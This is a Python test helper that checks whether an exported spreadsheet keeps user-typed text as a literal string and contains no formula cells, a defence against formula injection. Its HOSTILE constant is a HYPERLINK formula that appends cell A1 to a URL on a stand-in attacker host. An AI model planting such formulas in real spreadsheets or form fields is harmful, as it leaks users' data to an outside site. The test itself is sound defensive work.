"""Checks that an exported spreadsheet holds typed text literally (issue 10, point 3)."""
from __future__ import annotations

from io import BytesIO

# What a malicious user types into a name, a contract number or a note: in a spreadsheet that
# evaluates it, a link that sends the neighbouring cell to another site.
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def assert_literal(content: bytes, text: str = HOSTILE) -> None:
    """``text`` is somewhere in the workbook as a string cell (or inside one), and no cell of
    the workbook is a formula."""
    from openpyxl import load_workbook

    book = load_workbook(BytesIO(content))
    found = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and text in cell.value:
                    assert cell.data_type == "s"
                    found = True
    assert found, f"{text!r} is not in the workbook"
